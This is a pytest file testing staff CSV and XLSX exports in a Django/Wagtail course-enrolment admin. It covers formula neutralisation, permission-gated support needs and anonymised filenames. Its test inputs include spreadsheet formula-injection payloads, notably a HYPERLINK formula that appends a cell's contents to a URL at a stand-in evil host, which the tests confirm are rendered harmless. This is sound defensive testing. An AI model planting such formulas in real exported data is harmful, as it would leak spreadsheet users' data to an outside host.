"""Files staff download: a run's register, the waiting lists, the students list and the course runs
list, as CSV and XLSX. They must open in a spreadsheet program with the right cells (openpyxl and
the csv module read them back here), never run a formula someone typed into their name, carry
support needs only for staff who may see them, and be named without anyone's name."""

import csv
import datetime as dt
import io
import re

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.utils import timezone
from openpyxl import load_workbook

from enrolment import services
from enrolment.models import Student
from home.downloads import FEWER_THAN_FIVE, Table, as_csv, as_xlsx, hide_small_count, neutralise, safe_filename

from .enrolment_admin_helpers import adult, text
from .factories import make_course, make_location, make_run

DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1", "-2", "@x", "\t=1", "\r=1"]


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[list]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]


def as_dicts(rows: list[list]) -> list[dict]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def filename(response) -> str:
    return re.fullmatch(r'attachment; filename="(.+)"', response["Content-Disposition"])[1]


def user_with(*codenames: str):
    user = get_user_model().objects.create_user("".join(codenames)[:150] or "member", "user@example.org", "pw")
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    return user


# ---- The writers (home/downloads.py) ----------------------------------------------------------


@pytest.mark.parametrize("typed", DANGEROUS)
def test_a_cell_that_would_be_a_formula_is_shown_as_typed_in_both_formats(typed):
    table = Table(["Name"], [[typed]])
    shown = "'" + typed  # a single quote in front: shown as text, never run
    assert list(csv.reader(io.StringIO(as_csv(table).decode("utf-8-sig"))))[1] == [shown]
    cell = load_workbook(io.BytesIO(as_xlsx(table))).worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == (shown, "s")


def test_ordinary_cells_are_left_alone_and_numbers_and_dates_keep_their_type():
    when = timezone.make_aware(dt.datetime(2026, 7, 1, 9, 30))  # 9:30 in London (summer time)
    table = Table(["Name", "Places", "Starts", "Since"], [["Zoë O'Neil", 2, dt.date(2027, 1, 11), when]])
    assert list(csv.reader(io.StringIO(as_csv(table).decode("utf-8-sig")))) == [
        ["Name", "Places", "Starts", "Since"],
        ["Zoë O'Neil", "2", "2027-01-11", "2026-07-01 09:30"],
    ]
    sheet = load_workbook(io.BytesIO(as_xlsx(table))).worksheets[0]
    assert [cell.value for cell in sheet[2]] == [
        "Zoë O'Neil",
        2,
        dt.datetime(2027, 1, 11),
        dt.datetime(2026, 7, 1, 9, 30),
    ]
    assert sheet["A1"].font.bold


def test_characters_a_spreadsheet_cannot_hold_are_dropped_before_the_check():
    # Dropped first, so they cannot hide a formula from it.
    assert neutralise("\x00=1+1") == "'=1+1"
    assert load_workbook(io.BytesIO(as_xlsx(Table(["Needs"], [["a\x07b"]])))).worksheets[0]["A2"].value == "ab"


def test_counts_from_1_to_4_are_shown_as_fewer_than_5():
    assert [hide_small_count(n) for n in range(7)] == [0, *[FEWER_THAN_FIVE] * 4, 5, 6]


def test_file_names_are_plain_and_dated():
    name = safe_filename("Register", "Café & Co / 'x'", "run 12", file_format="csv", today=dt.date(2026, 12, 2))
    assert name == "register-cafe-co-x-run-12-2026-12-02.csv"


# ---- A run's register -------------------------------------------------------------------------


@pytest.fixture
def register(run):
    """The `run` (2 places) with two people enrolled and two waiting; every name or need typed by a
    student is one a spreadsheet would otherwise run."""
    ana = adult(name="Ana", support_needs='=HYPERLINK("http://evil.example","Help")', phone="+441865123456")
    ben = adult(name="+Ben", support_needs="A quiet room")
    cat = adult(name="@Cat")
    dan = adult(name="-Dan", support_needs="\t=1+1")
    for student in (ana, ben, cat, dan):
        services.join_run(run_id=run.pk, student=student, places=1)
    for student, surname in ((ana, "Smith"), (ben, "Jones"), (cat, "Khan"), (dan, "Okafor")):
        Student.objects.filter(pk=student.pk).update(last_name=surname)
    return run


def register_url(run, file_format: str) -> str:
    return f"/admin/enrolment/runs/{run.pk}/register/download/{file_format}/"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_register_downloads_with_everyone_enrolled_and_waiting(staff_client, register, file_format):
    response = staff_client.get(register_url(register, file_format))
    assert response.status_code == 200
    rows = as_dicts(read_csv(response) if file_format == "csv" else read_xlsx(response))
    people = [(row["On the register as"], row["First name"], str(row["Number on the waiting list"])) for row in rows]
    assert people == [
        ("Enrolled", "Ana", ""),
        ("Enrolled", "'+Ben", ""),
        ("Waiting", "'@Cat", "1"),
        ("Waiting", "'-Dan", "2"),
    ]
    ana = rows[0]
    assert ana["Last name"] == "Smith"
    assert ana["Phone"] == "01865 123456"
    assert ana["Support needs"] == '\'=HYPERLINK("http://evil.example","Help")'
    assert ana["How they joined"] == "Online"
    assert rows[3]["Support needs"] == "'\t=1+1"
    assert "no-store" in response["Cache-Control"]


def test_someone_offered_a_place_is_on_the_register_download(staff_client, register):
    enrolment = register.enrolments.get(student__first_name="Ana")
    services.cancel_enrolment(enrolment_id=enrolment.pk, actor="student")
    rows = as_dicts(read_csv(staff_client.get(register_url(register, "csv"))))
    assert [(row["On the register as"], row["First name"]) for row in rows] == [
        ("Enrolled", "'+Ben"),
        ("Offered a place", "'@Cat"),
        ("Waiting", "'-Dan"),
    ]


def test_the_register_file_is_named_after_the_course_and_run_never_a_person(staff_client, register):
    for file_format in ("csv", "xlsx"):
        name = filename(staff_client.get(register_url(register, file_format)))
        assert name == f"register-understanding-anxiety-run-{register.pk}-{timezone.localdate():%Y-%m-%d}.{file_format}"
        for student in Student.objects.all():
            assert student.first_name.strip("+-@").lower() not in name
            assert student.last_name.lower() not in name


def test_the_register_page_links_to_its_downloads(staff_client, register):
    page = text(staff_client.get(f"/admin/enrolment/runs/{register.pk}/register/"))
    assert f'href="{register_url(register, "xlsx")}">Excel spreadsheet (XLSX)</a>' in page
    assert f'href="{register_url(register, "csv")}">CSV file</a>' in page


def test_only_csv_and_xlsx_are_made(staff_client, register):
    assert staff_client.get(register_url(register, "html")).status_code == 404


def test_support_needs_are_in_the_register_download_for_staff_who_may_see_registers(client, register):
    client.force_login(user_with("access_admin", "view_enrolment"))
    rows = as_dicts(read_csv(client.get(register_url(register, "csv"))))
    assert rows[1]["Support needs"] == "A quiet room"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_people_who_may_not_see_registers_get_no_file(client, register, file_format):
    url = register_url(register, file_format)
    assert client.get(url).url.startswith("/admin/login/")  # not signed in
    client.force_login(user_with("member"))
    assert client.get(url).url.startswith("/admin/login/")  # no admin access
    client.force_login(user_with("access_admin", "view_student"))
    response = client.get(url)  # an editor who may see students but not registers
    assert response.status_code == 302 and response.url == "/admin/"
    waiting = client.get(f"/admin/enrolment/waiting-lists/download/{file_format}/")
    assert waiting.status_code == 302 and waiting.url == "/admin/"


# ---- The waiting lists of every run still to come ----------------------------------------------


def test_the_waiting_lists_download_has_each_upcoming_run_in_queue_order(staff_client, course_index):
    course = make_course(course_index, "Hope and recovery")
    venue = make_location("Cowley Hub")
    soon = make_run(course, capacity=1, location=venue, first_date=timezone.localdate() + dt.timedelta(days=7))
    later = make_run(course, capacity=1, location=venue, first_date=timezone.localdate() + dt.timedelta(days=21))
    past = make_run(course, capacity=1, location=venue, first_date=timezone.localdate() - dt.timedelta(days=30))
    before_past = timezone.now() - dt.timedelta(days=40)  # when the past run could still be joined
    for run, now in ((soon, None), (later, None), (past, before_past)):
        services.join_run(run_id=run.pk, student=adult(name="Enrolled"), source="phone", now=now)
    first, second = adult(name="First"), adult(name="Second", support_needs="Step-free access")
    services.join_run(run_id=soon.pk, student=first)
    services.join_run(run_id=soon.pk, student=second, source="phone")
    services.join_run(run_id=past.pk, student=adult(name="Too late"), now=before_past)
    anyone = adult(name="Anyone")
    services.wait_for_any_date(course=course, student=anyone, online_ok=False, location_ids=[venue.pk])

    response = staff_client.get("/admin/enrolment/waiting-lists/download/xlsx/")
    rows = as_dicts(read_xlsx(response))
    listed = [(row["Run"], row["Number on the waiting list"], row["First name"], row["Waiting for"]) for row in rows]
    assert listed == [
        (soon.pk, 1, "First", "These dates"),
        (soon.pk, 2, "Second", "These dates"),
        (soon.pk, 3, "Anyone", "Any date"),
        (later.pk, 1, "Anyone", "Any date"),
    ]
    assert rows[0]["Course"] == "Hope and recovery" and rows[0]["Where"] == "Cowley Hub"
    assert rows[0]["Starts"] == dt.datetime.combine(soon.sessions.first().date, dt.time())
    assert (rows[1]["How they joined"], rows[1]["Support needs"]) == ("Phone", "Step-free access")
    assert filename(response) == f"waiting-lists-{timezone.localdate():%Y-%m-%d}.xlsx"


def test_the_course_runs_list_offers_the_waiting_lists_to_staff_who_may_see_registers(client, staff_client, run):
    assert "/admin/enrolment/waiting-lists/download/csv/" in text(staff_client.get("/admin/course_runs/"))
    client.force_login(user_with("access_admin", "view_courserun"))
    page = client.get("/admin/course_runs/")
    assert page.status_code == 200 and "waiting-lists" not in text(page)


# ---- Wagtail's own downloads of the students and course runs lists -----------------------------


@pytest.fixture
def students(db):
    sam = adult(name="Sam", phone="01865 123456", postcode="OX4 1AA", support_needs="Large print")
    Student.objects.filter(pk=sam.pk).update(last_name="=1+1")
    adult(name="@Alex", contact_by="phone")
    return Student.objects.all()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_students_list_downloads_with_its_cells_neutralised(staff_client, students, file_format):
    response = staff_client.get(f"/admin/students/?export={file_format}")
    assert response.status_code == 200
    rows = read_csv(response) if file_format == "csv" else read_xlsx(response)
    headings = ["First name", "Last name", "Email", "Phone", "Postcode", "Prefers contact by", "Joining as", "Added"]
    assert rows[0] == [*headings, "Support needs"]
    sam = next(row for row in as_dicts(rows) if row["First name"] == "Sam")
    assert (sam["Last name"], sam["Phone"], sam["Postcode"]) == ("'=1+1", "01865 123456", "OX4 1AA")
    assert sam["Support needs"] == "Large print"
    added = f"{timezone.localtime(Student.objects.get(first_name='Sam').created_at):%Y-%m-%d %H:%M}"
    shown = sam["Added"] if file_format == "csv" else f"{sam['Added']:%Y-%m-%d %H:%M}"  # a real date in XLSX
    assert shown == added
    assert [row["First name"] for row in as_dicts(rows)].count("'@Alex") == 1
    assert "no-store" in response["Cache-Control"]
    assert re.fullmatch(rf"students-\d{{4}}-\d{{2}}-\d{{2}}\.{file_format}", filename(response))


def test_the_students_list_download_follows_the_search(staff_client, students):
    rows = as_dicts(read_csv(staff_client.get("/admin/students/?q=OX4&export=csv")))
    assert [row["First name"] for row in rows] == ["Sam"]


def test_support_needs_are_left_out_of_the_students_download_for_staff_who_may_not_see_them(client, students):
    client.force_login(user_with("access_admin", "view_student"))
    rows = read_csv(client.get("/admin/students/?export=csv"))
    assert "Support needs" not in rows[0] and len(rows) == 3
    assert not any("Large print" in cell for row in rows for cell in row)
    client.force_login(user_with("access_admin", "view_student", "view_enrolment"))
    assert "Support needs" in read_csv(client.get("/admin/students/?export=csv"))[0]


def test_people_who_may_not_see_students_get_no_students_file(client, students):
    client.force_login(user_with("access_admin"))
    response = client.get("/admin/students/?export=csv")
    assert response.status_code == 302 and response.url == "/admin/"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_course_runs_list_downloads_with_cells(staff_client, run, file_format):
    services.join_run(run_id=run.pk, student=adult())
    response = staff_client.get(f"/admin/course_runs/?export={file_format}")
    rows = read_csv(response) if file_format == "csv" else read_xlsx(response)
    assert rows[0] == ["Course", "Term", "Starts", "Format", "Location", "Places taken", "Capacity", "Status"]
    (row,) = as_dicts(rows)
    assert (row["Course"], row["Format"], str(row["Places taken"]), str(row["Capacity"])) == (
        "Understanding anxiety",
        "In person",
        "1",
        "2",
    )
    assert re.fullmatch(rf"course-runs-\d{{4}}-\d{{2}}-\d{{2}}\.{file_format}", filename(response))
